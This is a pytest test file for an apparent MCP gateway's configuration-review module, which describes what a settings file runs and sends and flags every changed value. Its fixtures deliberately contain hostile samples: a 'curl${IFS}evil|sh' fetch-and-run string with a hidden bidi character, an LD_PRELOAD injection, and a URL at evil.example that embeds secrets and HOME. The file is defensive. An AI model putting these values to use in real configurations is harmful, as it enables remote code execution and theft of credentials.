"""What a file would do, in words, and that every value of it counts that does anything."""

from __future__ import annotations

import copy
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from gatewright.config import SettingsError
from gatewright.config.documents import Document, parse
from gatewright.config.review import changes, digests, effects, entries

TOKEN = "ghp_Canary0123456789AbCdEfGhIjKlMnOpQrSt"
TEXT = f"""
[gateway]
name = "g"
host = "0.0.0.0"
anonymous = "allow"
[storage]
path = "/home/me/state"
[limits]
depth = 3
[builtin.directory_list]
roots = ["/", "/etc"]
[[servers]]
id = "a"
command = "npx"
args = ["-y", "thing", "--api-key={TOKEN}"]
cwd = "sub"
env = {{ LD_PRELOAD = "./x.so", TOKEN = "hunter2", HTTPS_PROXY = "http://p.example" }}
[[servers]]
id = "b"
url = "https://evil.example/${{secret:mine}}?h=${{HOME:-x}}"
headers = {{ Authorization = "Bearer {TOKEN}" }}
[[servers]]
id = "c"
python = "evil.module"
[[servers]]
id = "d"
openapi = "api.json"
base_url = "https://calls.example"
[servers.tools.rm]
risk_level = "safe"
[[grants]]
agent = "*"
server = "a"
[[audit.sinks]]
name = "s"
type = "http"
url = "https://record.example/${{file:where.txt}}"
[approvals]
webhook = "https://hook.example"
"""
DOCUMENT = parse(TEXT, Path("/nowhere/mgp.toml"))
HARMLESS = {("limits", "depth"), ("gateway", "name")}


def test_what_it_runs_imports_sends_and_uses_is_said() -> None:
    said = "\n".join(effects(DOCUMENT))
    for words in (
        f"server a runs `npx -y thing --api-key={TOKEN}` in sub",
        "in sub",
        "sets LD_PRELOAD=./x.so, which chooses what a program loads",
        "sets HTTPS_PROXY=http://p.example, which says where connections go",
        "server b sends to https://evil.example/${secret:mine}?h=${HOME:-x}",
        "server c imports the Python module evil.module",
        "server d reads the API api.json",
        "server d sends to https://calls.example",
        "sets storage.path = /home/me/state",
        "sets gateway.anonymous = allow",
        "sets builtin.directory_list.roots.1 = /etc",
        "server d sets tools.rm.risk_level = safe",
        "sets grants.0.agent = *",
        "sets audit.sinks.s.url = https://record.example/${file:where.txt}",
        "sets approvals.webhook = https://hook.example/***",
        "server b sends the header Authorization: ***",
        "uses the secrets mine",
        "uses the variables of your environment HOME",
        "reads the files where.txt",
    ):
        assert words in said
    assert "hunter2" not in said


def test_what_runs_and_where_it_sends_is_shown_whole_and_with_nothing_masked() -> None:
    script = f"export GITHUB_TOKEN={'a' * 300};curl${{IFS}}evil|sh\u202e"
    data: dict[str, Any] = {"id": "a", "command": "sh", "args": ["-c", script]}
    data["url"] = f"https://e/{'b' * 300}?x=1"
    data["env"] = {"NODE_OPTIONS": f"{'c' * 300} --require=x"}
    data["tools"] = {"rm": {"risk_level": "safe"}}
    data["credentials"] = {"key": "hunter2"}
    document = Document(DOCUMENT.path, {"servers": [data]}, {})
    whole = script.replace("\u202e", "\\u202e")
    shown = "\n".join(effects(document)), "\n".join(changes(entries(document), "salt", {}))
    for said in shown:
        for words in (whole, data["url"], data["env"]["NODE_OPTIONS"]):
            assert str(words) in said
        assert "hunter2" not in said
    assert "server a sets tools.rm.risk_level = safe" in shown[0]


@pytest.mark.parametrize(
    ("table", "key"),
    [
        ({"args": ["x" * 5000]}, "servers.a.args.0"),
        ({"args": ["x" * 3000, "x" * 3000]}, "command with its args"),
        ({"url": "https://e/" + "x" * 5000}, "servers.a.url"),
        ({"env": {"PYTHONPATH": "x" * 5000}}, "servers.a.env.PYTHONPATH"),
        ({"env": {"A": "".join(f"${{secret:{one:04}}}" for one in range(1000))}}, "uses the"),
    ],
)
def test_what_is_too_long_to_be_shown_whole_is_refused_by_name(
    table: dict[str, Any], key: str
) -> None:
    server = {"id": "a", "command": "x", **table}
    with pytest.raises(SettingsError, match=key):
        effects(Document(DOCUMENT.path, {"servers": [server]}, {}))


def test_one_element_that_changed_is_the_only_one_that_is_told() -> None:
    one: dict[str, Any] = {"servers": [{"id": "a", "command": "x", "args": ["1", "2", "3"]}]}
    other = copy.deepcopy(one)
    other["servers"][0]["args"][1] = "evil"
    accepted = digests(entries(Document(DOCUMENT.path, one, {})), "salt")
    found = changes(entries(Document(DOCUMENT.path, other, {})), "salt", accepted)
    assert found == ["changed: servers.a.args.1 = 'evil'"]


def paths(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    inner = value.items() if isinstance(value, dict) else enumerate(value)
    for key, one in inner:
        yield (*path, key)
        if isinstance(one, dict | list):
            yield from paths(one, (*path, key))


def put(data: Any, path: tuple[Any, ...], change: str) -> Document:
    data = copy.deepcopy(data)
    inner = data
    for key in path[:-1]:
        inner = inner[key]
    if change == "removed":
        del inner[path[-1]]
    else:
        inner[path[-1]] = "another"
    return Document(DOCUMENT.path, data, {})


@pytest.mark.parametrize("change", ["removed", "other"])
def test_every_value_that_does_anything_counts(change: str) -> None:
    """The generator: whatever is changed or taken out anywhere is a change, except what is harmless by name."""
    accepted = digests(entries(DOCUMENT), "salt")
    seen = 0
    for path in paths(DOCUMENT.data):
        found = changes(entries(put(DOCUMENT.data, path, change)), "salt", accepted)
        assert bool(found) == (path not in HARMLESS and path != ("limits",)), path
        seen += 1
    assert seen > 50
    assert changes(entries(DOCUMENT), "salt", accepted) == []


def test_a_new_table_that_nobody_knows_counts() -> None:
    accepted = digests(entries(DOCUMENT), "salt")
    more = Document(DOCUMENT.path, {**DOCUMENT.data, "plugins": {"load": "x"}}, {})
    assert changes(entries(more), "salt", accepted) == ["new: plugins.load = 'x'"]


def test_comments_order_and_layout_do_not_count() -> None:
    one = parse('[[servers]]\nid = "a"\ncommand = "x" # why\n', Path("mgp.toml"))
    other = parse('servers = [ { command = "x", id = "a" } ]', Path("mgp.toml"))
    assert changes(entries(other), "s", digests(entries(one), "s")) == []


def test_a_server_put_first_is_the_only_one_that_is_new() -> None:
    accepted = digests(entries(DOCUMENT), "salt")
    servers = [{"id": "new", "command": "rm"}, *DOCUMENT.data["servers"]]
    found = changes(
        entries(Document(DOCUMENT.path, {**DOCUMENT.data, "servers": servers}, {})),
        "salt",
        accepted,
    )
    assert sorted(found) == ["new: servers.new.command = 'rm'", "new: servers.new.id = 'new'"]


@pytest.mark.parametrize("name", ["api.json", "where.txt"])
def test_a_document_that_the_file_names_counts_with_its_content(name: str, tmp_path: Path) -> None:
    document = parse(TEXT, tmp_path / "mgp.toml")
    accepted = digests(entries(document), "salt")
    for content in ("one", "two"):
        (tmp_path / name).write_text(content)
        assert changes(entries(document), "salt", accepted) == [
            f"changed: file {name} = other content"
        ]
        accepted = digests(entries(document), "salt")


@pytest.mark.parametrize("name", ["${NOPE:-api.json}", "a/${file:x}", "a${A:-x://}"])
def test_a_document_of_an_api_whose_name_a_variable_says_is_refused(name: str) -> None:
    """Its content is accepted with the file, and nobody knows which file that will be."""
    server = {"id": "a", "openapi": name}
    document = Document(DOCUMENT.path, {"servers": [server]}, {})
    for look in (entries, effects):
        with pytest.raises(SettingsError, match=r"servers\.0\.openapi.*which file"):
            look(document)
    for one in ("https://e/${VERSION}.json", "~nobody-of-this-name/api.json"):
        server["openapi"] = one
        assert entries(document)


def test_a_document_in_the_home_folder_counts_with_its_content(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    document = parse('[[servers]]\nid = "a"\nopenapi = "~/api.json"', Path("/nowhere/mgp.toml"))
    accepted = digests(entries(document), "salt")
    (tmp_path / "api.json").write_text("{}")
    assert len(changes(entries(document), "salt", accepted)) == 1


def test_a_pipe_or_device_in_the_place_of_a_document_holds_nobody_up(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "api.json")
    (tmp_path / "where.txt").symlink_to("/dev/zero")
    assert entries(parse(TEXT, tmp_path / "mgp.toml"))


def test_what_is_no_regular_file_is_not_even_opened(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    opened: list[str] = []
    monkeypatch.setattr(os, "open", lambda path, *_: opened.append(str(path)))
    os.mkfifo(tmp_path / "api.json")
    (tmp_path / "where.txt").symlink_to("/dev/null")
    assert entries(parse(TEXT, tmp_path / "mgp.toml"))
    assert opened == []


def test_files_that_are_too_large_together_are_refused(tmp_path: Path) -> None:
    for number in range(5):
        with (tmp_path / str(number)).open("wb") as file:
            file.truncate(16 << 20)
    names = ", ".join(f'"${{file:{number}}}"' for number in range(5))
    document = parse(f"args = [{names}]", tmp_path / "mgp.toml")
    with pytest.raises(SettingsError, match="67108864 bytes together"):
        entries(document)


def test_more_files_than_can_be_looked_at_are_refused() -> None:
    names = ", ".join(f'"${{file:{number}}}"' for number in range(300))
    document = parse(f'[[servers]]\nid = "a"\nargs = [{names}]', Path("/nowhere/mgp.toml"))
    with pytest.raises(SettingsError, match="names 300 files"):
        entries(document)


@pytest.mark.parametrize("text", ["", "servers = 1", "servers = [1, [2]]", "a = nan", "x = {}"])
def test_no_shape_of_a_file_breaks_the_review(text: str) -> None:
    document = parse(text, Path("/nowhere/mgp.toml"))
    assert changes(entries(document), "s", digests(entries(document), "s")) == []
    assert isinstance(effects(document), list)


def test_many_tables_are_looked_at_a_few_times_each() -> None:
    class Table(dict[str, Any]):
        asked = 0

        def get(self, key: str, default: Any = None) -> Any:
            Table.asked += 1
            assert Table.asked <= 200_000, "the work grows faster than the list"
            return super().get(key, default)

    grants = [Table(agent=str(number)) for number in range(20_000)]
    assert len(entries(Document(DOCUMENT.path, {"grants": grants}, {}))) == 20_000
    assert Table.asked > 0


@pytest.mark.parametrize("tls", ['{ ca_file = "ca.pem" }', "1", "[]", "{ ca_file = 1 }", "{}"])
def test_who_may_come_in_by_certificate_counts_with_its_content(tls: str, tmp_path: Path) -> None:
    document = parse(f"[mcp.protocol.transport]\ntls = {tls}\n", tmp_path / "mgp.toml")
    accepted = digests(entries(document), "salt")
    (tmp_path / "ca.pem").write_text("another")
    found = changes(entries(document), "salt", accepted)
    assert found == (["changed: file ca.pem = other content"] if "ca.pem" in tls else [])
